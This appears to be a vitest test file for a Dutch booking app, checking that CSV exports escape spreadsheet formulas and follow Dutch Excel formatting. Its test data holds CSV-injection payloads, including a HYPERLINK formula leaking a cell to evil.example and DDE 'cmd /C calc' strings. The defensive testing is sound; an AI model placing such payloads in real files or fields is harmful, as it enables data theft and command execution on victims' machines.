import { parse } from 'csv-parse/sync';
import { decimalComma, toCsv } from './csv.js';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { makeTestApp, type TestApp } from './testing.js';

let t: TestApp;
beforeEach(async () => {
  t = await makeTestApp();
  t.clock.set('2026-12-03T12:00:00+01:00');
});
afterEach(() => t.close());

const evil = ['=HYPERLINK("http://evil.example/?"&A2,"klik")', "+cmd|' /C calc'!A0", '@SUM(1+1)*cmd', '-2+3+cmd|" /C calc"!A0', '\t=1+1', '\r=1+1'];
const startsFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell);

describe('CSV exports never carry a formula (OWASP CSV injection)', () => {
  it('a name from a person or the identity provider comes out of the HR ticks CSV as text', async () => {
    const admin = await t.login('admin@test.nl');
    expect((await admin.patch(`/api/v1/admin/users/${t.users.anna.id}`, { name: evil[0] })).status).toBe(200);
    const csv = String((await (await t.login('hr@test.nl')).get('/api/v1/hr/ticks.csv?month=2026-12')).body);
    const rows = parse(csv, { bom: true, delimiter: ';' }) as string[][];
    expect(rows.flat().filter(startsFormula)).toEqual([]);
    expect(rows.find((r) => r[0] === 'anna@test.nl')![1]).toBe(`'${evil[0]}`);
  });

  it('space names come out of the spaces CSV as text, and an edited export brings them back unchanged', async () => {
    const facility = await t.login('facility@test.nl');
    for (const [i, name] of evil.entries()) {
      const res = await facility.post(`/api/v1/admin/locations/${t.hub.id}/spaces`, { code: `HUB-3-X0${i}`, name, kind: 'desk' });
      expect(res.status).toBe(201);
    }
    // Stored as given (a leading tab or return is trimmed as any whitespace is).
    const stored = t.db.prepare("SELECT name FROM spaces WHERE code LIKE 'HUB-3-X%' ORDER BY code").pluck().all() as string[];
    const csv = String((await facility.get(`/api/v1/admin/locations/${t.hub.id}/spaces.csv`)).body);
    const rows = parse(csv, { bom: true, delimiter: ';' }) as string[][];
    expect(rows.flat().filter(startsFormula)).toEqual([]);
    for (const [i, name] of stored.entries()) expect(rows.find((r) => r[0] === `HUB-3-X0${i}`)![1]).toBe(`'${name}`);

    // The export goes to another location with new codes: the names arrive as they were typed.
    const other = await facility.post('/api/v1/admin/locations', { name: 'Stadswinkel', kind: 'service' });
    const moved = csv.replaceAll('HUB-3-', 'SW-1-').split('\r\n').filter((l, i) => i === 0 || l.includes('SW-1-X')).join('\r\n');
    const imported = await facility.post(`/api/v1/admin/locations/${other.body.id}/spaces/import`, { csv: moved.replaceAll(';Stilte;', ';;') });
    expect(imported.status).toBe(201);
    const names = t.db.prepare("SELECT name FROM spaces WHERE code LIKE 'SW-1-X%' ORDER BY code").pluck().all();
    expect(names).toEqual(stored);
  });

  it('zone names come out of the occupancy CSV as text', async () => {
    const facility = await t.login('facility@test.nl');
    const zone = await facility.post(`/api/v1/admin/locations/${t.hub.id}/zones`, { name: '@SUM(1+1)*cmd', character: 'dynamisch', floor: 1 });
    expect(zone.status).toBe(201);
    const csv = String((await facility.get(`/api/v1/reports/locations/${t.hub.id}/occupancy.csv?from=2026-11-02&to=2026-11-27`)).body);
    const rows = parse(csv, { bom: true, delimiter: ';', relax_column_count: true }) as string[][];
    expect(rows.flat().filter(startsFormula)).toEqual([]);
    expect(rows.flat()).toContain("'@SUM(1+1)*cmd");
  });
});

/** An export as bytes: the test client's text() would drop the BOM these tests are about. */
async function exportBytes(client: Awaited<ReturnType<TestApp['login']>>, path: string): Promise<string> {
  const res = await t.app.request(path, { headers: { cookie: client.cookie! } });
  expect([res.status, res.headers.get('content-type')]).toEqual([200, 'text/csv; charset=utf-8']);
  const bytes = Buffer.from(await res.arrayBuffer());
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const text = bytes.subarray(3).toString('utf8');
  // Windows line ends only, and one at the end.
  expect([text.endsWith('\r\n'), text.replaceAll('\r\n', '').includes('\n')]).toEqual([true, false]);
  return text;
}

describe('every CSV export opens as Dutch Excel opens a file: UTF-8 with BOM, ";", CRLF, decimal comma, Dutch words (English with lang=en)', () => {
  it('the HR ticks', async () => {
    const admin = await t.login('admin@test.nl');
    await admin.patch(`/api/v1/admin/users/${t.users.anna.id}`, { name: 'Eva Claëssens-Béke' });
    const hr = await t.login('hr@test.nl');
    const nl = await exportBytes(hr, '/api/v1/hr/ticks.csv?month=2026-12');
    expect(nl.split('\r\n')[0]).toBe('e-mail;naam;maand;kantoor;wijk;thuis;afwezig;niet ingevuld');
    expect(nl).toMatch(/\r\nanna@test\.nl;Eva Claëssens-Béke;2026-12;0;0;0;0;\d+\r\n/);
    const en = await exportBytes(hr, '/api/v1/hr/ticks.csv?month=2026-12&lang=en');
    expect(en.split('\r\n')[0]).toBe('email;name;month;office;neighbourhood;home;absent;not filled in');
  });

  it('the spaces', async () => {
    const facility = await t.login('facility@test.nl');
    const nl = await exportBytes(facility, `/api/v1/admin/locations/${t.hub.id}/spaces.csv`);
    expect(nl.split('\r\n').slice(0, 2)).toEqual(['code;naam;soort;zone;capaciteit;kenmerken', 'HUB-3-001;Werkplek 3.01;Werkplek;Stilte;1;Zit-sta-bureau']);
    const en = await exportBytes(facility, `/api/v1/admin/locations/${t.hub.id}/spaces.csv?lang=en`);
    expect(en.split('\r\n').slice(0, 2)).toEqual(['code;name;kind;zone;capacity;features', 'HUB-3-001;Werkplek 3.01;Desk;Stilte;1;Sit-stand desk']);
  });

  it('the occupancy report, whose averages carry a decimal comma', async () => {
    const facility = await t.login('facility@test.nl');
    const nl = await exportBytes(facility, `/api/v1/reports/locations/${t.hub.id}/occupancy.csv?from=2026-11-02&to=2026-11-27`);
    expect(nl.split('\r\n')[0]).toBe('onderdeel;weekdag;gereserveerd (gemiddeld per dag);ingecheckt (gemiddeld per dag);werkplekken');
    expect(nl).toContain('\r\nweekdag;maandag;< 5 personen;< 5 personen;3\r\n');
    expect(nl).toContain('\r\nonderdeel;soort;reserveringen;check-ins\r\nsoort;Werkplek;< 5 personen;< 5 personen\r\n');
    const en = await exportBytes(facility, `/api/v1/reports/locations/${t.hub.id}/occupancy.csv?from=2026-11-02&to=2026-11-27&lang=en`);
    expect(en.split('\r\n')[0]).toBe('section;weekday;reserved (average per day);checked in (average per day);desks');
    expect(en).toContain('\r\nweekday;Monday;< 5 people;< 5 people;3\r\n');
    // The decimal figures themselves come from five people or more: report.routes.test.ts.
  });

  it('a figure is written the way Dutch Excel reads a number', () => {
    expect([decimalComma(54.5), decimalComma(1.2), decimalComma(21), decimalComma(1234.5)]).toEqual(['54,5', '1,2', '21', '1234,5']);
    expect(toCsv([['a;b', 4.5, '=1+1', -2.5]], ['x', 'y', 'z', 'w'])).toBe('\ufeffx;y;z;w\r\n"a;b";4,5;\'=1+1;-2,5\r\n');
  });
});
